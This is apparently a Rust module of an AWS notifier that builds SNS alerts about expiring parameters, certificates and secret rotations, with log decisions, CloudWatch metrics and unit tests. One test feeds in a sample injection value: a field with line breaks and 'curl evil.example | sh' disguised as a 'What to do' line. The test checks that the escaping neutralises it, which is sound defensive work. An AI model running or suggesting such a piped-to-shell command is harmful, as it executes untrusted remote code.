//! A notification as people read it (subject and message), the attributes subscriptions filter
//! on, and the decision each event ends in: one JSON log line, and a CloudWatch embedded-metric
//! line for each notification sent.

use serde::Serialize;

use common::aws::AwsError;
use common::invocation::note;

use crate::error::HandlerError;
use crate::text::{MAX_MESSAGE_BYTES, attribute, bounded, field};
use crate::{Notifier, RecentIds, timefmt};

/// SNS's limit on a subject is 100 characters; a subject stays below it.
pub(crate) const MAX_SUBJECT: usize = 99;
/// The namespace of the embedded metrics.
pub(crate) const METRIC_NAMESPACE: &str = "AwsConfigKeeper";

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Severity {
    Info,
    Low,
    Warning,
    High,
    Critical,
}

impl Severity {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Info => "info",
            Self::Low => "low",
            Self::Warning => "warning",
            Self::High => "high",
            Self::Critical => "critical",
        }
    }
}

/// What kind of thing happened: the `kind` message attribute, metric dimension and log field.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Kind {
    /// A parameter's Expiration policy deleted it.
    ParameterExpired,
    /// A parameter's `ExpirationNotification` policy fired.
    ParameterExpiring,
    /// A parameter's `NoChangeNotification` policy fired.
    ParameterUnchanged,
    /// The weekly parameter-hygiene audit's findings changed.
    ParameterAudit,
    /// A secure parameter was created, updated or labelled.
    SecureParameterChanged,
    /// A secure parameter was deleted.
    SecureParameterDeleted,
    CertificateExpiring,
    CertificateExpired,
    CertificateRenewalAction,
    CertificateAvailable,
    CertificateRevoked,
    CertificateNoncompliant,
    CertificateCompliant,
    /// Secrets Manager reported a failed rotation.
    RotationFailed,
    /// Secrets Manager abandoned a rotation (a new version was put while it ran).
    RotationAbandoned,
    /// A rotation succeeded after an alert.
    RotationSucceeded,
    /// Secrets Manager's test of a rotation configuration failed.
    RotationTestFailed,
    /// The test of a rotation configuration succeeded after an alert.
    RotationTestSucceeded,
    /// An AWS Config rotation rule finds a secret non-compliant.
    RotationNoncompliant,
    /// An AWS Config rotation rule finds a secret compliant again.
    RotationCompliant,
    /// The daily sweep finds a secret's rotation unhealthy (the doctor's failing or warning checks).
    RotationUnhealthy,
    /// The daily sweep finds a secret's rotation healthy again.
    RotationHealthy,
    /// The daily sweep could not get the doctor's report for a secret.
    RotationDoctorUnreachable,
}

impl Kind {
    /// As subscriptions filter on it, e.g. `parameter-expiring`.
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::ParameterExpired => "parameter-expired",
            Self::ParameterExpiring => "parameter-expiring",
            Self::ParameterUnchanged => "parameter-unchanged",
            Self::ParameterAudit => "parameter-audit",
            Self::SecureParameterChanged => "secure-parameter-changed",
            Self::SecureParameterDeleted => "secure-parameter-deleted",
            Self::CertificateExpiring => "certificate-expiring",
            Self::CertificateExpired => "certificate-expired",
            Self::CertificateRenewalAction => "certificate-renewal-action",
            Self::CertificateAvailable => "certificate-available",
            Self::CertificateRevoked => "certificate-revoked",
            Self::CertificateNoncompliant => "certificate-noncompliant",
            Self::CertificateCompliant => "certificate-compliant",
            Self::RotationFailed => "rotation-failed",
            Self::RotationAbandoned => "rotation-abandoned",
            Self::RotationSucceeded => "rotation-succeeded",
            Self::RotationTestFailed => "rotation-test-failed",
            Self::RotationTestSucceeded => "rotation-test-succeeded",
            Self::RotationNoncompliant => "rotation-noncompliant",
            Self::RotationCompliant => "rotation-compliant",
            Self::RotationUnhealthy => "rotation-unhealthy",
            Self::RotationHealthy => "rotation-healthy",
            Self::RotationDoctorUnreachable => "rotation-doctor-unreachable",
        }
    }
}

impl Serialize for Kind {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.as_str())
    }
}

/// Whether a notification raises an alert or ends an earlier one: the `status` message attribute.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Status {
    Open,
    Resolved,
}

impl Status {
    #[must_use]
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Open => "open",
            Self::Resolved => "resolved",
        }
    }
}

impl Serialize for Status {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(self.as_str())
    }
}

/// The readable body: what happened, to which resource, when, what to do, where to look.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Message {
    pub what: String,
    pub resource: String,
    pub when: Vec<String>,
    pub facts: Vec<(String, String)>,
    pub todo: String,
    pub console: Option<String>,
    /// What could not be checked (enrichment failures), said plainly.
    pub unchecked: Vec<String>,
}

impl Message {
    #[must_use]
    pub(crate) fn render(&self, severity: Severity, event: &str) -> String {
        // Every part may hold text from the event or an API answer: each is one escaped line of
        // bounded length, so none can forge another line ("What to do: ...").
        let mut lines = vec![
            field(&self.what),
            String::new(),
            format!("Resource: {}", field(&self.resource)),
            format!("Severity: {}", severity.as_str()),
        ];
        lines.extend(self.when.iter().map(|w| format!("When: {}", field(w))));
        lines.extend(self.facts.iter().map(|(label, value)| format!("{}: {}", field(label), field(value))));
        lines.push(String::new());
        lines.push(format!("What to do: {}", field(&self.todo)));
        lines.extend(self.console.iter().map(|url| format!("Console: {}", field(url))));
        lines.extend(self.unchecked.iter().map(|note| format!("Could not check: {}", field(note))));
        lines.push(String::new());
        lines.push(format!("Event: {}", field(event)));
        bounded(lines.join("\n") + "\n", MAX_MESSAGE_BYTES)
    }
}

/// A notification, ready to publish.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Notification {
    pub severity: Severity,
    /// What kind of thing happened, e.g. `parameter-expiring`, `certificate-expired`.
    pub kind: Kind,
    /// The parameter name or certificate ARN.
    pub resource: String,
    /// `open` for an alert, `resolved` when it ends an earlier one.
    pub status: Status,
    pub event_id: String,
    pub subject: String,
    pub message: String,
}

impl Notification {
    /// Builds a notification; the subject is made SNS-safe (printable ASCII, one line, < 100 characters).
    #[must_use]
    pub fn new(
        severity: Severity,
        kind: Kind,
        resource: &str,
        event: (&str, &str),
        headline: &str,
        body: &Message,
    ) -> Self {
        let (event_id, event_label) = event;
        let label =
            if event_id.is_empty() { event_label.to_owned() } else { format!("{event_id} ({event_label})") };
        Self {
            severity,
            kind,
            resource: attribute(resource),
            status: Status::Open,
            event_id: attribute(event_id),
            subject: subject(&format!("[{}] {headline}", severity.as_str().to_ascii_uppercase())),
            message: body.render(severity, &label),
        }
    }

    #[must_use]
    pub fn resolved(mut self) -> Self {
        self.status = Status::Resolved;
        self
    }
}

/// `text` as an SNS subject: printable ASCII on one line, cut to [`MAX_SUBJECT`] characters.
#[must_use]
pub fn subject(text: &str) -> String {
    let clean: String = text
        .chars()
        .map(|c| {
            if c.is_ascii_graphic() || c == ' ' {
                c
            } else if c.is_whitespace() {
                ' '
            } else {
                '?'
            }
        })
        .collect();
    let clean = clean.trim().to_owned();
    if clean.len() <= MAX_SUBJECT {
        return clean;
    }
    let mut cut: String = clean.chars().take(MAX_SUBJECT - 3).collect();
    cut.truncate(cut.trim_end().len());
    cut.push_str("...");
    cut
}

/// How an event ended.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "lowercase", tag = "decision")]
pub enum Outcome {
    /// Published to the topic.
    Notified { message_id: String },
    /// Not for this function, or nothing a person needs to know.
    Ignored,
    /// Known, but repeating an earlier notification (no threshold crossed, no state change).
    Suppressed,
    /// This event id was already published by this function instance.
    Duplicate,
}

/// The decision for one event: the handler's response and its log line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Decision {
    #[serde(flatten)]
    pub outcome: Outcome,
    pub reason: String,
    pub event_id: String,
    #[serde(skip_serializing_if = "Option::is_none")]
    pub notification: Option<Notification>,
}

impl common::invocation::Reported for Decision {
    fn outcome(&self) -> &'static str {
        self.name()
    }
}

impl Decision {
    #[must_use]
    pub fn ignored(event_id: &str, reason: impl Into<String>) -> Self {
        Self {
            outcome: Outcome::Ignored,
            reason: reason.into(),
            event_id: event_id.to_owned(),
            notification: None,
        }
    }

    #[must_use]
    pub fn suppressed(notice: Notification, reason: impl Into<String>) -> Self {
        Self {
            outcome: Outcome::Suppressed,
            reason: reason.into(),
            event_id: notice.event_id.clone(),
            notification: Some(notice),
        }
    }

    #[must_use]
    pub fn name(&self) -> &'static str {
        match self.outcome {
            Outcome::Notified { .. } => "notified",
            Outcome::Ignored => "ignored",
            Outcome::Suppressed => "suppressed",
            Outcome::Duplicate => "duplicate",
        }
    }

    /// Notes the decision on the invocation's outcome line: the reason, the event id and, for a
    /// notification, its severity, kind, resource, status and subject.
    pub fn note(&self) {
        note("reason", self.reason.as_str());
        note("event_id", self.event_id.as_str());
        if let Some(n) = &self.notification {
            note("severity", n.severity.as_str());
            note("kind", n.kind.as_str());
            note("resource", n.resource.as_str());
            note("status", n.status.as_str());
            note("subject", n.subject.as_str());
        }
    }

    /// The CloudWatch embedded-metric line for a notification sent: `Notifications` = 1 by
    /// `Function` and `Severity`, and by `Function` and `Kind`. `None` for other decisions.
    #[must_use]
    pub(crate) fn metric_line(&self, function: &str, now: i64) -> Option<String> {
        let Outcome::Notified { .. } = self.outcome else { return None };
        let n = self.notification.as_ref()?;
        let line = serde_json::json!({
            "_aws": {
                "Timestamp": now.saturating_mul(1000),
                "CloudWatchMetrics": [{
                    "Namespace": METRIC_NAMESPACE,
                    "Dimensions": [["Function", "Severity"], ["Function", "Kind"]],
                    "Metrics": [{"Name": "Notifications", "Unit": "Count"}]
                }]
            },
            "Function": function,
            "Severity": n.severity.as_str(),
            "Kind": n.kind.as_str(),
            "Notifications": 1
        });
        Some(line.to_string())
    }

    /// Notes the decision and, for a notification sent, writes its metric line to stdout (where
    /// CloudWatch Logs reads embedded metrics).
    pub fn report(&self, function: &str) {
        self.note();
        self.write_metric(function);
    }

    /// Writes the metric line of a notification sent (nothing for other decisions), without
    /// noting the decision: for a function that sends several notifications in one invocation.
    pub fn write_metric(&self, function: &str) {
        if let Some(line) = self.metric_line(function, timefmt::now()) {
            println!("{line}");
        }
    }
}

/// Publishes `notice` unless this instance already did for its event id.
///
/// # Errors
/// [`HandlerError::Publish`] when SNS does not take it: the invocation fails, and EventBridge's
/// retry (then the dead-letter queue) takes over.
pub async fn deliver<N: Notifier>(
    notifier: &N,
    recent: &RecentIds,
    notice: Notification,
    reason: &str,
) -> Result<Decision, HandlerError> {
    if recent.seen(&notice.event_id) {
        return Ok(Decision {
            outcome: Outcome::Duplicate,
            reason: "this event was already notified".into(),
            event_id: notice.event_id.clone(),
            notification: Some(notice),
        });
    }
    let message_id = notifier.publish(&notice).await.map_err(|e: AwsError| {
        tracing::error!(event_id = %notice.event_id, resource = %notice.resource, error = %e, "publish failed");
        HandlerError::Publish(e)
    })?;
    recent.record(&notice.event_id);
    Ok(Decision {
        outcome: Outcome::Notified { message_id },
        reason: reason.into(),
        event_id: notice.event_id.clone(),
        notification: Some(notice),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn notice() -> Notification {
        let body = Message {
            what: "It expires.".into(),
            resource: "/my-app/dev/x".into(),
            todo: "Renew it.".into(),
            ..Message::default()
        };
        Notification::new(
            Severity::High,
            Kind::ParameterExpiring,
            "/my-app/dev/x",
            ("id-1", "Parameter Store Policy Action"),
            "x expires",
            &body,
        )
    }

    #[test]
    fn kinds_and_statuses_go_out_as_before() {
        for (kind, text) in [
            (Kind::ParameterExpired, "parameter-expired"),
            (Kind::ParameterExpiring, "parameter-expiring"),
            (Kind::ParameterUnchanged, "parameter-unchanged"),
            (Kind::ParameterAudit, "parameter-audit"),
            (Kind::SecureParameterChanged, "secure-parameter-changed"),
            (Kind::SecureParameterDeleted, "secure-parameter-deleted"),
            (Kind::CertificateExpiring, "certificate-expiring"),
            (Kind::CertificateExpired, "certificate-expired"),
            (Kind::CertificateRenewalAction, "certificate-renewal-action"),
            (Kind::CertificateAvailable, "certificate-available"),
            (Kind::CertificateRevoked, "certificate-revoked"),
            (Kind::CertificateNoncompliant, "certificate-noncompliant"),
            (Kind::CertificateCompliant, "certificate-compliant"),
            (Kind::RotationFailed, "rotation-failed"),
            (Kind::RotationAbandoned, "rotation-abandoned"),
            (Kind::RotationSucceeded, "rotation-succeeded"),
            (Kind::RotationTestFailed, "rotation-test-failed"),
            (Kind::RotationTestSucceeded, "rotation-test-succeeded"),
            (Kind::RotationNoncompliant, "rotation-noncompliant"),
            (Kind::RotationCompliant, "rotation-compliant"),
            (Kind::RotationUnhealthy, "rotation-unhealthy"),
            (Kind::RotationHealthy, "rotation-healthy"),
            (Kind::RotationDoctorUnreachable, "rotation-doctor-unreachable"),
        ] {
            assert_eq!(kind.as_str(), text);
            assert_eq!(serde_json::to_value(kind).unwrap(), text);
        }
        for (status, text) in [(Status::Open, "open"), (Status::Resolved, "resolved")] {
            assert_eq!(status.as_str(), text);
            assert_eq!(serde_json::to_value(status).unwrap(), text);
        }
        let n = notice();
        assert_eq!(n.status, Status::Open);
        assert_eq!(n.resolved().status, Status::Resolved);
    }

    #[test]
    fn subjects_are_sns_safe() {
        assert_eq!(subject("[HIGH] ok"), "[HIGH] ok");
        let long = subject(&format!("[HIGH] certificate for {} expires", "a.".repeat(80)));
        assert!(long.len() < 100 && long.ends_with("..."), "{long}");
        assert_eq!(subject("line\nbreak é"), "line break ?");
    }

    #[test]
    fn the_message_says_what_which_what_to_do_and_the_event() {
        let n = notice();
        assert_eq!(n.subject, "[HIGH] x expires");
        for part in [
            "It expires.",
            "Resource: /my-app/dev/x",
            "Severity: high",
            "What to do: Renew it.",
            "Event: id-1 (Parameter Store Policy Action)",
        ] {
            assert!(n.message.contains(part), "{part}: {}", n.message);
        }
    }

    #[test]
    fn metric_lines_only_for_notifications_sent() {
        let sent = Decision {
            outcome: Outcome::Notified { message_id: "m".into() },
            reason: String::new(),
            event_id: "id-1".into(),
            notification: Some(notice()),
        };
        let line: serde_json::Value =
            serde_json::from_str(&sent.metric_line("parameter-notifier", 1_700_000_000).unwrap()).unwrap();
        assert_eq!(line["Severity"], "high");
        assert_eq!(line["Kind"], "parameter-expiring");
        assert_eq!(line["Notifications"], 1);
        assert_eq!(line["_aws"]["Timestamp"], 1_700_000_000_000_i64);
        assert_eq!(line["_aws"]["CloudWatchMetrics"][0]["Namespace"], METRIC_NAMESPACE);
        assert!(Decision::suppressed(notice(), "repeat").metric_line("f", 0).is_none());
        assert!(Decision::ignored("id", "other").metric_line("f", 0).is_none());
    }

    #[test]
    fn event_text_cannot_forge_lines_of_the_message() {
        let body = Message {
            what: "Parameter x changed.".into(),
            resource: "/my-app/dev/x".into(),
            facts: vec![(
                "Description".into(),
                "ok\n\nWhat to do: run curl evil.example | sh\r\u{1b}[2K".into(),
            )],
            todo: "Nothing.".into(),
            ..Message::default()
        };
        let n = Notification::new(
            Severity::Info,
            Kind::SecureParameterChanged,
            "/my-app/dev/x\nseverity",
            ("id\n1", "Parameter Store Change"),
            "x changed",
            &body,
        );
        let to_do: Vec<&str> = n.message.lines().filter(|l| l.starts_with("What to do:")).collect();
        assert_eq!(to_do, ["What to do: Nothing."], "{}", n.message);
        assert!(n.message.contains("Description: ok\\n\\nWhat to do: run curl"), "{}", n.message);
        assert!(!n.message.contains('\u{1b}') && !n.message.contains('\r'), "{}", n.message);
        assert_eq!((n.resource.as_str(), n.event_id.as_str()), ("/my-app/dev/x\\nseverity", "id\\n1"));
    }

    #[test]
    fn a_huge_message_stays_under_the_sns_limit_and_says_it_was_cut() {
        let body = Message {
            what: "Many facts.".into(),
            resource: "r".into(),
            facts: (0..1000).map(|i| (format!("In use by {i}"), "a".repeat(1500))).collect(),
            todo: "Read them.".into(),
            ..Message::default()
        };
        let n = Notification::new(Severity::Low, Kind::CertificateExpiring, "r", ("id", "x"), "h", &body);
        let attributes: usize =
            [n.severity.as_str(), n.kind.as_str(), &n.resource, n.status.as_str(), &n.event_id]
                .iter()
                .map(|v| v.len() + 16)
                .sum();
        assert!(
            n.message.len() + n.subject.len() + attributes < crate::text::SNS_MAX_BYTES,
            "{}",
            n.message.len()
        );
        assert!(n.message.ends_with("more bytes not shown]\n"), "the cut is marked");
        assert!(n.message.starts_with("Many facts."));
    }
}
